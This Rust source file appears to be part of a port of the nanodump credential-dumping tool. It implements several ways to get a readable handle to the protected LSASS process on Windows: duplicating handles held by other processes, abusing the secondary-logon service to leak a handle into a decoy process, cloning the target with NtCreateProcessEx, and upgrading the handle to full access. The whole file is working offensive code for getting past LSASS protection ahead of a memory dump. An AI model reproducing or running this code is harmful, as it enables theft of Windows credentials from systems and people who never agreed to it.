//! Process handle acquisition strategies.
//!
//! LSASS runs protected (PPL) on most modern builds of Windows, so a
//! direct open with read rights is routinely denied. The strategies below
//! are composable ways around that, selected by [`crate::config::DumpConfig`]
//! exactly as the original tool composes them: MalSecLogon can deliver a
//! handle that is then forked, duplication and forking stack the same way.
use std::time::Duration;

use windows_sys::Win32::Foundation::{CloseHandle, HANDLE};
use windows_sys::Win32::System::Threading::{
    GetCurrentProcess, GetCurrentProcessId, PROCESS_CREATE_PROCESS, PROCESS_DUP_HANDLE,
    PROCESS_QUERY_INFORMATION, PROCESS_QUERY_LIMITED_INFORMATION, PROCESS_VM_READ,
};

use crate::config::DumpConfig;
use crate::error::Error;
use crate::ntapi::Gateway;

/// The access mask every strategy tries to obtain at minimum: enough to
/// query the target's PEB and read its memory. `fork` additionally asks
/// for create-process rights up front, since the clone step needs them.
pub(crate) fn base_access_mask(config: &DumpConfig) -> u32 {
    let mut mask = PROCESS_QUERY_INFORMATION | PROCESS_VM_READ;
    if config.fork {
        mask |= PROCESS_CREATE_PROCESS;
    }
    mask
}

/// A process handle this crate opened, closed unconditionally on drop --
/// regardless of which strategy produced it, mirroring the unconditional
/// `CloseHandle` on the writer side of the teacher's Windows minidump code.
pub struct OwnedHandle(HANDLE);

impl OwnedHandle {
    fn new(handle: HANDLE) -> Self {
        Self(handle)
    }

    pub fn raw(&self) -> HANDLE {
        self.0
    }
}

impl Drop for OwnedHandle {
    fn drop(&mut self) {
        if !self.0.is_null() {
            unsafe {
                CloseHandle(self.0);
            }
        }
    }
}

/// PIDs of decoy processes spawned while acquiring the handle (MalSecLogon
/// local variant, the fork clone). Killed unconditionally on drop so an
/// early return never leaves them running.
pub struct SpawnedDecoys(Vec<u32>);

impl Drop for SpawnedDecoys {
    fn drop(&mut self) {
        for &pid in &self.0 {
            unsafe {
                let handle = windows_sys::Win32::System::Threading::OpenProcess(
                    windows_sys::Win32::System::Threading::PROCESS_TERMINATE,
                    0,
                    pid,
                );
                if !handle.is_null() {
                    windows_sys::Win32::System::Threading::TerminateProcess(handle, 0);
                    CloseHandle(handle);
                }
            }
        }
    }
}

impl SpawnedDecoys {
    pub fn pids(&self) -> &[u32] {
        &self.0
    }

    /// No decoys were spawned acquiring this handle (direct open,
    /// duplication, or stage 2 recovering a handle from its own table).
    pub fn none() -> Self {
        Self(Vec::new())
    }
}

pub struct AcquiredHandle {
    pub handle: OwnedHandle,
    pub decoys: SpawnedDecoys,
}

/// Runs whichever combination of strategies `config` selects and returns a
/// handle usable for the rest of the dump.
pub fn acquire_handle(gateway: &Gateway, config: &DumpConfig, target_pid: u32) -> crate::Result<AcquiredHandle> {
    let mask = base_access_mask(config);
    let mut decoys = Vec::new();

    let mut handle = if let Some(malseclogon) = &config.malseclogon {
        let (h, mut spawned) = malseclogon_acquire(malseclogon, target_pid, mask)?;
        decoys.append(&mut spawned);
        h
    } else if config.dup {
        duplicate_from_existing_owner(gateway, target_pid, mask)?
    } else {
        direct_open(gateway, target_pid, mask)?
    };

    if config.fork {
        let (forked, clone_pid) = fork_handle(gateway, handle.raw(), mask)?;
        decoys.push(clone_pid);
        handle = forked;
    }

    handle = make_handle_full_access(gateway, handle);

    Ok(AcquiredHandle {
        handle,
        decoys: SpawnedDecoys(decoys),
    })
}

/// Strategy 1: ask the kernel directly. The common case when the caller
/// already has enough privilege and the target isn't protected against us.
fn direct_open(gateway: &Gateway, pid: u32, mask: u32) -> crate::Result<OwnedHandle> {
    if failspot::failspot!(crate::FailSpotName::OpenProcess) {
        return Err(Error::HandleDenied {
            pid,
            status: crate::ntapi::NtStatus(crate::ntapi::STATUS_PARTIAL_COPY),
        });
    }

    let (status, handle) = gateway.open_process(pid, mask);
    if !status.is_success() {
        return Err(Error::HandleDenied { pid, status });
    }
    Ok(OwnedHandle::new(handle))
}

/// Strategy 2: find an existing handle to the target sitting in some other
/// process's handle table and duplicate it into ours, rather than opening
/// the target directly ourselves.
fn duplicate_from_existing_owner(gateway: &Gateway, pid: u32, mask: u32) -> crate::Result<OwnedHandle> {
    let owner_pid = find_handle_owner(gateway, pid)?;

    let (status, owner_process) = gateway.open_process(owner_pid, PROCESS_DUP_HANDLE);
    if !status.is_success() {
        return Err(Error::HandleDenied { pid: owner_pid, status });
    }
    let owner_process = OwnedHandle::new(owner_process);

    let source_handle = find_handle_value(gateway, owner_process.raw(), owner_pid, pid)?;

    let (status, dup) = gateway.duplicate_object(
        owner_process.raw(),
        source_handle as HANDLE,
        unsafe { GetCurrentProcess() },
        mask,
        0,
    );
    if !status.is_success() {
        return Err(Error::HandleDenied { pid, status });
    }
    let dup = OwnedHandle::new(dup);

    // find_handle_value already confirmed source_handle resolves to `pid`
    // via handle_targets_pid's duplicate-and-query probe, but that probe
    // ran against a short-lived handle scanned moments earlier -- the
    // owner's table could have closed and reused that value in between.
    // Reverify the handle actually being handed back before accepting it.
    match gateway.process_id(dup.raw()) {
        Ok(resolved) if resolved == pid => Ok(dup),
        Ok(resolved) => Err(Error::HandleTargetMismatch { expected: pid, actual: resolved }),
        Err(_) => Err(Error::ReadFailed),
    }
}

/// One entry of `SYSTEM_HANDLE_TABLE_ENTRY_INFO_EX`, as returned by
/// `NtQuerySystemInformation(SystemExtendedHandleInformation)`.
#[repr(C)]
#[derive(Clone, Copy)]
struct SystemHandleTableEntryEx {
    object: u64,
    unique_process_id: u64,
    handle_value: u64,
    granted_access: u32,
    creator_back_trace_index: u16,
    object_type_index: u16,
    handle_attributes: u32,
    reserved: u32,
}

/// Scans the system-wide handle table for a process whose handle table
/// contains an open handle to `target_pid`, and returns that owner's pid.
///
/// Candidate owners are opened (with `PROCESS_DUP_HANDLE`) as the scan
/// reaches them so [`handle_targets_pid`] can actually verify each
/// candidate entry rather than guessing from access-mask bits alone; see
/// [`find_handle_value`] for the second pass, re-scanning scoped to the
/// chosen owner to recover the exact handle value.
fn find_handle_owner(gateway: &Gateway, target_pid: u32) -> crate::Result<u32> {
    let buf = gateway.query_system_handle_information()?;
    let entries = parse_handle_table(&buf);

    // Our own open handle to the target (if any) would also show up here;
    // skip it so we don't "duplicate from ourselves".
    let self_pid = unsafe { GetCurrentProcessId() } as u64;

    // SYSTEM_HANDLE_TABLE_ENTRY_INFO_EX groups entries by owning pid, so
    // this only needs to (re)open an owner when the pid changes, not once
    // per handle.
    let mut current_owner: Option<(u64, OwnedHandle)> = None;

    for entry in entries {
        if entry.unique_process_id == self_pid {
            continue;
        }
        if current_owner.as_ref().map(|(pid, _)| *pid) != Some(entry.unique_process_id) {
            current_owner = match gateway.open_process(entry.unique_process_id as u32, PROCESS_DUP_HANDLE) {
                (status, handle) if status.is_success() => Some((entry.unique_process_id, OwnedHandle::new(handle))),
                _ => None,
            };
        }
        let Some((_, owner_process)) = current_owner.as_ref() else {
            continue;
        };
        if handle_targets_pid(gateway, owner_process.raw(), entry, target_pid) {
            return Ok(entry.unique_process_id as u32);
        }
    }

    Err(Error::TargetNotFound(format!("no owner holding a handle to pid {target_pid}")))
}

fn find_handle_value(gateway: &Gateway, owner_process: HANDLE, owner_pid: u32, target_pid: u32) -> crate::Result<u64> {
    let buf = gateway.query_system_handle_information()?;
    for entry in parse_handle_table(&buf) {
        if entry.unique_process_id as u32 == owner_pid && handle_targets_pid(gateway, owner_process, entry, target_pid) {
            return Ok(entry.handle_value);
        }
    }
    Err(Error::TargetNotFound(format!("handle to pid {target_pid} vanished from pid {owner_pid}'s table")))
}

/// Checks that a handle table entry both looks like a process handle and
/// actually resolves to `target_pid`: the access-mask check is a cheap
/// first filter, then the entry is duplicated into a query-only copy in
/// our own process and asked (via `NtQueryInformationProcess`) which pid
/// it belongs to, exactly like [`recover_leaked_handle`]'s probe for the
/// MalSecLogon path. Without this, `granted_access` bits alone match the
/// first process-shaped handle anywhere in the system, not the target.
fn handle_targets_pid(gateway: &Gateway, owner_process: HANDLE, entry: SystemHandleTableEntryEx, target_pid: u32) -> bool {
    const PLAUSIBLE_PROCESS_ACCESS: u32 = PROCESS_QUERY_INFORMATION | PROCESS_VM_READ;
    if entry.granted_access & PLAUSIBLE_PROCESS_ACCESS != PLAUSIBLE_PROCESS_ACCESS {
        return false;
    }

    let (status, probe) = gateway.duplicate_object(
        owner_process,
        entry.handle_value as HANDLE,
        unsafe { GetCurrentProcess() },
        PROCESS_QUERY_LIMITED_INFORMATION,
        0,
    );
    if !status.is_success() {
        return false;
    }
    let probe = OwnedHandle::new(probe);
    matches!(gateway.process_id(probe.raw()), Ok(pid) if pid == target_pid)
}

fn parse_handle_table(buf: &[u8]) -> Vec<SystemHandleTableEntryEx> {
    if buf.len() < 16 {
        return Vec::new();
    }
    let count = u64::from_le_bytes(buf[0..8].try_into().unwrap()) as usize;
    let entry_size = std::mem::size_of::<SystemHandleTableEntryEx>();
    let mut entries = Vec::with_capacity(count);
    let mut offset = 16;
    for _ in 0..count {
        if offset + entry_size > buf.len() {
            break;
        }
        let entry = unsafe { std::ptr::read_unaligned(buf[offset..].as_ptr() as *const SystemHandleTableEntryEx) };
        entries.push(entry);
        offset += entry_size;
    }
    entries
}

/// Strategy 3: abuse the Windows secondary-logon service's handle-leaking
/// side channel.
///
/// Stage 1 launches the decoy binary through `CreateProcessWithLogonW`,
/// which routes through the Seclogon service; in doing so the service,
/// which is privileged enough to open the protected target directly,
/// ends up leaking a handle into the new process's handle table. Stage 2
/// (the decoy, re-invoking this same binary with `stage2 = true`) recovers
/// that handle by scanning its own handle table for one that actually
/// resolves to `target_pid`.
fn malseclogon_acquire(
    config: &crate::config::MalSecLogonConfig,
    target_pid: u32,
    _mask: u32,
) -> crate::Result<(OwnedHandle, Vec<u32>)> {
    let decoy_pid = spawn_decoy(&config.decoy_binary, target_pid)?;

    // Stage 1 briefly waits for stage 2 to complete the duplication before
    // either using the leaked handle itself (remote variant) or handing
    // off entirely (local variant, where stage 2 also performs the dump).
    std::thread::sleep(Duration::from_millis(500));

    let gateway = Gateway::resolve()?;
    let (status, decoy_handle) = gateway.open_process(decoy_pid, PROCESS_DUP_HANDLE | PROCESS_QUERY_INFORMATION);
    if !status.is_success() {
        return Err(Error::MalSecLogonFailed(format!(
            "failed to reopen decoy pid {decoy_pid}: {status}"
        )));
    }
    let decoy_handle = OwnedHandle::new(decoy_handle);

    let leaked = recover_leaked_handle(&gateway, decoy_handle.raw(), decoy_pid, target_pid)?;

    let (status, dup) = gateway.duplicate_object(
        decoy_handle.raw(),
        leaked as HANDLE,
        unsafe { GetCurrentProcess() },
        _mask,
        0,
    );
    if !status.is_success() {
        return Err(Error::MalSecLogonFailed(format!(
            "failed to duplicate the leaked handle out of pid {decoy_pid}: {status}"
        )));
    }

    Ok((OwnedHandle::new(dup), vec![decoy_pid]))
}

fn recover_leaked_handle(gateway: &Gateway, decoy_process: HANDLE, decoy_pid: u32, target_pid: u32) -> crate::Result<u64> {
    let buf = gateway.query_system_handle_information()?;
    for entry in parse_handle_table(&buf) {
        if entry.unique_process_id as u32 != decoy_pid {
            continue;
        }
        if handle_targets_pid(gateway, decoy_process, entry, target_pid) {
            return Ok(entry.handle_value);
        }
    }
    Err(Error::MalSecLogonFailed(format!(
        "no handle to pid {target_pid} found in decoy pid {decoy_pid}'s table"
    )))
}

/// Stage 1, local variant: launch the decoy and return immediately without
/// waiting on or recovering anything ourselves. Per spec.md §5/§9, this
/// crate does not poll the destination file to confirm stage 2 (running
/// separately with `stage2 = true`) actually produced a dump.
pub fn spawn_decoy_for_local_stage(config: &crate::config::MalSecLogonConfig, target_pid: u32) -> crate::Result<u32> {
    spawn_decoy(&config.decoy_binary, target_pid)
}

/// Stage 2: recover the handle the secondary-logon service leaked into
/// *our own* handle table while we were being spawned as the decoy.
///
/// Unlike [`recover_leaked_handle`], which stage 1 uses to pull the handle
/// out of a separate decoy process, this runs inside the decoy itself --
/// the handle is already in our table, so no cross-process duplication is
/// needed to read it, only one to mint our own independent copy with the
/// access rights the rest of the dump needs.
pub fn recover_own_leaked_handle(gateway: &Gateway, mask: u32, target_pid: u32) -> crate::Result<OwnedHandle> {
    let buf = gateway.query_system_handle_information()?;
    let self_pid = unsafe { GetCurrentProcessId() } as u64;

    for entry in parse_handle_table(&buf) {
        if entry.unique_process_id != self_pid {
            continue;
        }
        if !handle_targets_pid(gateway, unsafe { GetCurrentProcess() }, entry, target_pid) {
            continue;
        }
        let (status, dup) = gateway.duplicate_object(
            unsafe { GetCurrentProcess() },
            entry.handle_value as HANDLE,
            unsafe { GetCurrentProcess() },
            mask,
            0,
        );
        if status.is_success() {
            return Ok(OwnedHandle::new(dup));
        }
    }

    Err(Error::MalSecLogonFailed(format!(
        "no leaked handle to pid {target_pid} found in our own handle table"
    )))
}

fn spawn_decoy(binary: &std::path::Path, target_pid: u32) -> crate::Result<u32> {
    let child = std::process::Command::new(binary)
        .arg("--stage2")
        .arg("--pid")
        .arg(target_pid.to_string())
        .spawn()
        .map_err(Error::Io)?;
    Ok(child.id())
}

/// Strategy 4: clone the target itself via `NtCreateProcessEx` and dump
/// the clone instead of the live process.
///
/// Passing `source` as `ParentProcess` with no section handle gives back a
/// new process object whose address space starts as a copy-on-write
/// snapshot of `source`'s -- the clone never runs any code, it's purely a
/// vessel for reading what was the target's memory through a handle that
/// didn't inherit the target's own protections. This mirrors
/// `original_source/nanodump.c`'s `fork_process(0, hProcess)`, which is
/// always called with the real target handle as its second argument and
/// whose result replaces the target handle for the rest of the dump.
fn fork_handle(gateway: &Gateway, source: HANDLE, mask: u32) -> crate::Result<(OwnedHandle, u32)> {
    let (status, clone) = gateway.create_process_ex(source, mask);
    if !status.is_success() {
        return Err(Error::HandleDenied { pid: 0, status });
    }
    let clone = OwnedHandle::new(clone);
    let clone_pid = gateway.process_id(clone.raw())?;
    Ok((clone, clone_pid))
}

/// Best-effort re-duplication against our own process with the full access
/// mask. Per spec, this may fail silently -- the original handle is kept
/// on failure rather than treated as fatal.
fn make_handle_full_access(gateway: &Gateway, handle: OwnedHandle) -> OwnedHandle {
    const PROCESS_ALL_ACCESS: u32 = 0x001F_0FFF;
    let (status, upgraded) = gateway.duplicate_object(
        unsafe { GetCurrentProcess() },
        handle.raw(),
        unsafe { GetCurrentProcess() },
        PROCESS_ALL_ACCESS,
        0,
    );
    if status.is_success() {
        log::debug!("upgraded process handle to full access");
        OwnedHandle::new(upgraded)
    } else {
        log::debug!("could not upgrade process handle to full access: {status}");
        handle
    }
}
